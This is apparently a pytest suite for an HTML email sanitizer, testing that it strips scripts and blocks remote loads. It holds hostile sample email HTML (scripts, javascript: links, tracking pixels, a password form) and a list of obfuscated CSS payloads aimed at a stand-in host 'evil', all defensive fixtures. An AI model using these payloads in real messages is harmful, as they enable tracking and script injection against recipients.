"""sanitize_html: active content removed, remote loads blocked, cid: rewritten."""

from __future__ import annotations

import pytest

from kustos.mail import has_remote_content, sanitize_html

HOSTILE = """<html><head><title>T</title><meta http-equiv="refresh" content="0;url=http://evil/">
<base href="http://evil/"><style>body { background: url(http://evil/css.png) }</style></head>
<body onload="steal()"><script>alert(1)</script>
<p style="color: red; background-image: url('http://evil/bg.gif')">Hello</p>
<img src="http://evil/pixel.gif" alt="tracker"><img src="//evil/proto.gif"><img src="cid:logo@x">
<img src="data:image/png;base64,iVBORw0KGgo=">
<a href="https://example.org/" onclick="x()">ok link</a><a href="javascript:alert(1)">js</a>
<a href="data:text/html,<script>1</script>">data link</a>
<form action="http://evil/"><input name="password"></form>
<table background="http://evil/t.gif"><tr><td>cell</td></tr></table>
<iframe src="http://evil/"></iframe><object data="x.swf"></object><svg><script>1</script></svg>
<div style="width: expression(alert(1))">ie</div></body></html>"""


def test_active_content_is_removed() -> None:
    out = sanitize_html(HOSTILE)
    lowered = out.lower()
    for needle in ("<script", "onload", "onclick", "javascript:", "<form", "<input", "<iframe", "<object",
                   "<meta", "<base", "<style", "<svg", "expression(", "data:text/html"):  # fmt: skip
        assert needle not in lowered, needle
    assert "Hello" in out and "ok link" in out and "cell" in out
    assert '<a href="https://example.org/" rel="noopener noreferrer">ok link</a>' in out


def test_remote_resources_blocked_by_default() -> None:
    out = sanitize_html(HOSTILE)
    assert "evil" not in out
    assert 'alt="tracker"' in out  # the image element stays, without its source
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in out  # embedded images do not load anything
    assert not has_remote_content(out)
    assert has_remote_content(HOSTILE)


def test_remote_resources_allowed_on_request() -> None:
    out = sanitize_html(HOSTILE, allow_remote=True)
    assert 'src="http://evil/pixel.gif"' in out
    assert "url('http://evil/bg.gif')" in out
    assert "<script" not in out.lower()


def test_cid_references_rewritten_via_callback() -> None:
    seen: list[str] = []

    def cid_url(content_id: str) -> str | None:
        seen.append(content_id)
        return f"/messages/42/parts/{content_id}" if content_id == "logo@x" else None

    html = '<img src="cid:logo@x"><img src="cid:missing@x"><p style="background:url(cid:logo@x)">x</p>'
    out = sanitize_html(html, cid_url=cid_url)
    assert '<img src="/messages/42/parts/logo@x">' in out
    assert "missing@x" not in out
    assert "url('/messages/42/parts/logo@x')" in out
    assert seen == ["logo@x", "missing@x", "logo@x"]


def test_garbage_never_raises() -> None:
    assert sanitize_html("") == ""
    assert sanitize_html("<<<<div <p>>>x") != "<<<<div <p>>>x"
    assert sanitize_html("\x00\ud800 text") is not None


# Inline styles that load remote content (or run code) in some browser, hidden from a
# naive pattern by CSS escapes, comments, control characters or other fetching functions.
CSS_ATTACKS = [
    r"background:u\rl(http://evil/1.png)",
    r"background:u\72 l(http://evil/2.png)",
    r"background:u\000072l(http://evil/3.png)",
    r"background:\75 \52 \4c (http://evil/4.png)",
    r"background:u/**/rl(http://evil/5.png)",
    r"background:ur/* x */l(http://evil/6.png)",
    "background:u&#9;rl(http://evil/7.png)",
    "background:u&#11;rl(http://evil/8.png)",
    "background:u\\&#10;rl(http://evil/9.png)",
    r"background:u&#x5c;72 l(http://evil/10.png)",
    "background:URL(http://evil/11.png)",
    'background:url( "http://evil/12.png" )',
    "background:url(//evil/13.png)",
    r"background:url(\68 ttp://evil/14.png)",
    "background:url(http://evil/15.png",
    "background-image:image-set(\"http://evil/16.png\" 1x)",
    "background-image:image-set('//evil/17.png' 1x, url(cid:x) 2x)",
    "background-image:-webkit-image-set(url(http://evil/18.png) 1x)",
    "background-image:-webkit-image-set(\"http://evil/19.png\" 1x)",
    r"background-image:im\61ge-set('http://evil/20.png' 1x)",
    "background:src(\"http://evil/21.png\")",
    "mask-image:image(\"http://evil/22.png\")",
    "background:cross-fade(url(data:image/png;base64,AA), \"http://evil/23.png\", 50%)",
    "list-style:url(http://evil/24.png)",
    "cursor:url(http://evil/25.cur),auto",
    "@import 'http://evil/26.css'",
    r"@\69mport url(http://evil/27.css)",
    "width:expression(fetch('http://evil/28'))",
    r"width:expr\65ssion(fetch('http://evil/29'))",
    "width:expr/**/ession(fetch('http://evil/30'))",
    "behavior:url(http://evil/31.htc)",
    r"beh\61vior:url(http://evil/32.htc)",
    "-moz-binding:url(http://evil/33.xml#x)",
    r"-moz-b\69nding:url(http://evil/34.xml#x)",
    "color:red;background:url(http://evil/35.png)",
]


@pytest.mark.parametrize("style", CSS_ATTACKS)
def test_inline_css_cannot_load_remote_content(style: str) -> None:
    attribute = style.replace('"', "&quot;")  # entities in the table are meant; quotes are not
    out = sanitize_html(f'<p style="{attribute}">text</p>')
    assert "evil" not in out, out
    lowered = out.lower()
    for needle in ("expression", "behavior", "binding", "import", "image-set", "src("):
        assert needle not in lowered, out
    assert "text" in out


def test_safe_inline_css_is_kept() -> None:
    out = sanitize_html('<p style="color: red; font-size: 12px; background: url(data:image/png;base64,AA)">x</p>')
    assert 'style="color: red; font-size: 12px; background: url(data:image/png;base64,AA)"' in out
    out = sanitize_html('<p style="color:blue;background:url(http://evil/x.png) no-repeat">x</p>')
    assert 'style="color:blue;background:none no-repeat"' in out


def test_remote_css_allowed_on_request_but_script_css_never() -> None:
    style = "background-image:image-set('http://ok.example/a.png' 1x);width:expression(alert(1))"
    out = sanitize_html(f'<p style="{style}">x</p>', allow_remote=True)
    assert "image-set('http://ok.example/a.png' 1x)" in out
    assert "expression" not in out


def test_remote_content_detected_in_image_set() -> None:
    assert has_remote_content("<p style=\"background-image:image-set('https://x.example/a.png' 1x)\">x</p>")
    assert not has_remote_content("<p style=\"background-image:image-set('a.png' 1x)\">x</p>")
